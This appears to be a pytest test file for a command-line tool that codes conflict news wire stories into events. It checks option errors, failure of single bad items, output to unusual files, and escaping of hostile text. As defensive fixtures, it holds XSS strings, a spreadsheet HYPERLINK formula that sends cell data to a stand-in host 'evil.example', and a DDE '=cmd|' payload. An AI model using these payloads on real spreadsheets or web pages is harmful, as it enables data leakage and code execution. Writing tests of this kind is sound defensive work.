"""The command line under bad options, bad outputs and hostile text: a usage error naming the
option (exit 2), a named failure per bad item (exit 1, the rest written and stored), output
written only where it can be and as the reader can take it."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from postgres import postgres_server, store_url
from typer.testing import CliRunner, Result

from wirecoder.cli import app
from wirecoder.report import render_rows

__all__ = ["postgres_server", "store_url"]  # the database fixtures these tests use

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[1]

GOOD = [
    "BAMAKO, May 6 (Reuters) - Gunmen killed five villagers in central Mali's Mopti region on "
    "Monday, a local official said, blaming an Islamist group linked to al Qaeda.",
    "Myanmar's military launched air strikes on a village in Sagaing region on Sunday, killing "
    "at least seven people, a spokesman for a local resistance group told reporters.",
    "Houthi forces fired two missiles at a merchant ship in the Red Sea on Tuesday, the U.S. "
    "military said, adding that no one was hurt.",
]
HOSTILE_TITLE = "<script>alert('x')</script> Strike | kills <img src=x onerror=alert(1)>"
FORMULA_PUBLISHER = '=HYPERLINK("http://evil.example/?leak="&A1,"Reuters")'


def invoke(*args: str | Path) -> Result:
    return runner.invoke(app, [str(arg) for arg in args])


def assert_usage_error(result: Result, option: str) -> None:
    assert result.exit_code == 2, result.output
    assert option in result.stderr
    assert "Traceback" not in result.output and not isinstance(
        result.exception, (ValueError, OverflowError, OSError)
    )


def write_jsonl(path: Path, records: list[dict[str, object]]) -> Path:
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of good stories and one bad item of each kind."""
    folder = tmp_path_factory.mktemp("inputs")
    for number, text in enumerate(GOOD):
        (folder / f"good{number}.txt").write_text(text, encoding="utf-8")
    write_jsonl(
        folder / "wire.jsonl",
        [
            {"text": GOOD[0].replace("five", "six"), "title": HOSTILE_TITLE},
            {"text": "x", "n": 1},
        ],
    )
    with (folder / "wire.jsonl").open("a") as stream:
        stream.write('{"text": "Shelling in Gao.", "count": ' + "9" * 5001 + "}\n")
        stream.write("[" * 100_000 + "]" * 100_000 + "\n")
        stream.write('{"text": "Shelling hit Gao \\ud800 on Monday, officials said."}\n')
        stream.write(json.dumps({"text": GOOD[1], "published": "0001-01-01"}) + "\n")
    (folder / "superscript.txt").write_text(
        "Shelling killed 1² people in Gao on Monday, officials said.", encoding="utf-8"
    )
    return folder


def test_bad_items_fail_alone_and_the_rest_is_written(inputs: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.jsonl"
    result = invoke("analyze", inputs, "-f", "jsonl", "-o", output)
    assert result.exit_code == 1, result.output
    failed = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(failed) == 3, failed
    assert any(f"{inputs / 'wire.jsonl'}:3: not JSON" in line for line in failed)
    assert any(f"{inputs / 'wire.jsonl'}:4: not JSON" in line for line in failed)
    assert any(f"{inputs / 'wire.jsonl'}:6 ('published'): 0001-01-01" in line for line in failed)
    assert "Traceback" not in result.output
    analysed = [json.loads(line) for line in output.read_text().splitlines()]
    sources = {Path(item["article"]["source"]).name for item in analysed}
    assert sources == {
        "good0.txt",
        "good1.txt",
        "good2.txt",
        "superscript.txt",
        "wire.jsonl:1",
        "wire.jsonl:2",
        "wire.jsonl:5",
    }
    assert "6 analysed" not in result.stderr and "7 analysed, 3 failed" in result.stderr
    assert any("surrogate" in line for line in result.stderr.splitlines() if "warning" in line)


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["--published", "0001-01-01"], "--published"),
        (["--published", "9999-12-31"], "--published"),
        (["--published", "yesterday"], "--published"),
        (["--published", "3 days ago"], "--published"),
        (["--workers", "100000"], "--workers"),
        (["--max-bytes", "-1"], "--max-bytes"),
    ],
)
def test_analyze_options(tmp_path: Path, args: list[str], option: str) -> None:
    story = tmp_path / "story.txt"
    story.write_text(GOOD[2])
    assert_usage_error(invoke("analyze", story, *args), option)


def test_output_naming_a_directory_is_refused_before_the_analysis(tmp_path: Path) -> None:
    result = invoke("analyze", tmp_path / "not-read-yet.txt", "-o", tmp_path)
    assert_usage_error(result, f"cannot write {tmp_path}: it is a directory")
    assert "no such file" not in result.stderr  # refused before any input was read


def test_output_in_a_folder_that_cannot_be_made(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    result = invoke("analyze", tmp_path / "x.txt", "-o", blocker / "sub" / "out.json")
    assert_usage_error(result, "is not a directory")


def test_output_to_a_socket_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "s.sock"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        result = invoke("schema", "-o", path)
    finally:
        server.close()
    assert_usage_error(result, "not a regular file, device or pipe")
    assert stat.S_ISSOCK(path.stat().st_mode)


def test_output_through_a_link_writes_its_target(tmp_path: Path) -> None:
    target = tmp_path / "real" / "schema.json"
    target.parent.mkdir()
    target.write_text("old")
    target.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to(target)
    result = invoke("schema", "-o", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and link.resolve() == target
    assert json.loads(target.read_text())["title"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert sorted(path.name for path in target.parent.iterdir()) == ["schema.json"]


def test_output_to_a_fifo_is_written_through(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    result = invoke("schema", "-o", fifo)
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert json.loads(received[0])["title"]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_output_to_a_full_device_is_a_clear_error() -> None:
    before = Path("/dev/full").stat()
    result = invoke("schema", "-o", "/dev/full")
    assert_usage_error(result, "cannot write /dev/full: No space left on device")
    after = Path("/dev/full").stat()
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_stdout_on_a_full_device_is_a_clear_error() -> None:
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "wirecoder.cli", "schema"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
            timeout=120,
            check=False,
        )
    assert done.returncode == 2
    assert done.stderr.strip() == (
        "error: cannot write to standard output: No space left on device"
    )


def test_stdout_closed_by_its_reader_ends_quietly() -> None:
    command = [sys.executable, "-m", "wirecoder.cli", "schema"]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env) as run:
        assert run.stdout is not None and run.stderr is not None
        run.stdout.read(10)
        run.stdout.close()
        errors = run.stderr.read().decode()
    assert "Traceback" not in errors and "Exception ignored" not in errors


def test_new_output_files_follow_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        result = invoke("schema", "-o", tmp_path / "schema.json")
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((tmp_path / "schema.json").stat().st_mode) == 0o640


def test_an_existing_output_keeps_its_permissions(tmp_path: Path) -> None:
    path = tmp_path / "schema.json"
    path.write_text("old")
    path.chmod(0o604)
    assert invoke("schema", "-o", path).exit_code == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o604 and path.read_text() != "old"


def test_markdown_shows_hostile_html_as_text(inputs: Path) -> None:
    result = invoke("analyze", inputs / "wire.jsonl", "-f", "markdown")
    assert result.exit_code == 1  # the bad lines of the file
    markdown = result.stdout
    assert "<script" not in markdown and "<img" not in markdown
    assert "# &lt;script&gt;alert('x')&lt;/script&gt; Strike \\| kills &lt;img" in markdown


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start so


@pytest.mark.parametrize("export", ["acled", "ucdp"])
def test_event_csv_exports_neutralise_formulas(tmp_path: Path, export: str) -> None:
    path = write_jsonl(
        tmp_path / "wire.jsonl",
        [
            {
                "text": "-Gunmen killed five villagers near Mopti on Monday, officials said.",
                "publisher": FORMULA_PUBLISHER,
                "published": "2024-05-07",
            },
            {"text": GOOD[1], "publisher": "@Myanmar Now", "published": "2024-05-07"},
        ],
    )
    result = invoke("analyze", path, "-f", export)
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.stdout)
    assert_no_formula(cells)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells), cells


def test_query_table_csv_and_terminal_output_are_neutralised() -> None:
    rows = [
        {
            "id": 1,
            "publisher": "=cmd|'/c calc'!A1",
            "sentence": "\x1b[31mred\x1b[0m \u202etxt.exe [link=http://evil.example]click[/link]",
            "killed": -3,
        }
    ]
    table = render_rows(rows, "table")
    assert "\x1b" not in table and "\u202e" not in table
    assert "[link=http://evil.example]click" in table  # shown as written, not a hyperlink
    cells = csv_cells(render_rows(rows, "csv"))
    assert "'=cmd|'/c calc'!A1" in cells and "-3" in cells
    assert_no_formula(cells)


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("db")
    story = write_jsonl(
        folder / "wire.jsonl",
        [
            {
                "text": GOOD[0],
                "title": HOSTILE_TITLE,
                "publisher": FORMULA_PUBLISHER,
                "published": "2024-05-07",
            },
            {
                "text": GOOD[1].replace("village", "village <b onmouseover=alert(1)>"),
                "publisher": "<img src=x onerror=alert(1)> Myanmar Now",
                "published": "2024-05-06",
            },
        ],
    )
    db = str(folder / "wire.db")
    result = invoke("ingest", story, "--db", db)
    assert result.exit_code == 0, result.output
    return db


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["events", "--since", "0001-01-01"], "--since"),
        (["events", "--until", "9999-12-31"], "--until"),
        (["claims", "--since", "2024-05-08", "--until", "2024-05-01"], "--since"),
        (["events", "--limit", "100000000000000000000"], "--limit"),
        (["events", "--limit", "1e20"], "--limit"),
        (["events", "--area", "1.2.3,2,3,4"], "--area"),
        (["events", "--area", "0,-500,1,500"], "--area"),
        (["claims", "--area", "-200,10,-190,11"], "--area"),
        (["events", "--area", "10,20,5,30"], "--area"),
        (["sitrep", "--date", "0001-01-01"], "--date"),
        (["sitrep", "--date", "2024-05-07", "--days", "99999999"], "--days"),
        (["sitrep", "--date", "1800-01-05", "--days", "30"], "--days"),
        (["sitrep", "--date", "2024-05-07", "-o", "/"], "it is a directory"),
    ],
)
def test_query_options(database: str, args: list[str], option: str) -> None:
    if args[0] == "sitrep" and "--date" not in args:
        args = [*args, "--date", "2024-05-07"]
    assert_usage_error(invoke(*args, "--db", database), option)


def test_queries_in_range_still_answer(database: str) -> None:
    result = invoke("events", "--db", database, "--since", "2024-05-01", "--area", "-10,10,5,20")
    assert result.exit_code == 0, result.output
    assert "rows" in result.stdout


def test_sitrep_markdown_shows_hostile_html_as_text(database: str) -> None:
    result = invoke("sitrep", "--db", database, "--date", "2024-05-07", "--days", "3")
    assert result.exit_code == 0, result.output
    assert "<img" not in result.stdout and "<b " not in result.stdout
    assert "(&lt;img src=x onerror=alert(1)&gt; Myanmar Now)" in result.stdout
    assert "village &lt;b onmouseover=alert(1)&gt;" in result.stdout


def test_events_csv_from_the_store_neutralises_formulas(database: str) -> None:
    result = invoke("events", "--db", database, "-f", "csv")
    assert result.exit_code == 0, result.output
    cells = csv_cells(result.stdout)
    assert_no_formula(cells)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells), cells


def test_ingest_stores_every_good_item_and_names_each_bad_one(inputs: Path, store_url: str) -> None:
    first = invoke("ingest", inputs, "--db", store_url)
    assert first.exit_code == 1, first.output
    assert "7 stored, 0 unchanged, 0 superseded, 3 failed" in first.stderr
    assert "Traceback" not in first.output
    again = invoke("ingest", inputs, "--db", store_url)
    assert again.exit_code == 1
    assert "0 stored, 7 unchanged, 0 superseded, 3 failed" in again.stderr
    assert_usage_error(
        invoke("ingest", inputs, "--db", store_url, "--published", "tomorrow"), "--published"
    )


def test_sitrep_html_escapes_what_articles_say(database: str, tmp_path: Path) -> None:
    page = tmp_path / "sitrep.html"
    result = invoke(
        "sitrep", "--db", database, "--date", "2024-05-07", "--days", "3", "--html", "-o", page
    )
    assert result.exit_code == 0, result.output
    text = page.read_text()
    assert "<img src=x" not in text and "<b onmouseover" not in text
    assert "&lt;img src=x onerror=alert(1)&gt; Myanmar Now" in text


@pytest.mark.skipif(not Path("/dev/stdout").exists(), reason="no /dev/stdout")
def test_output_to_dev_stdout_on_a_pipe_is_written_through() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "wirecoder.cli", "schema", "-o", "/dev/stdout"],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["title"]
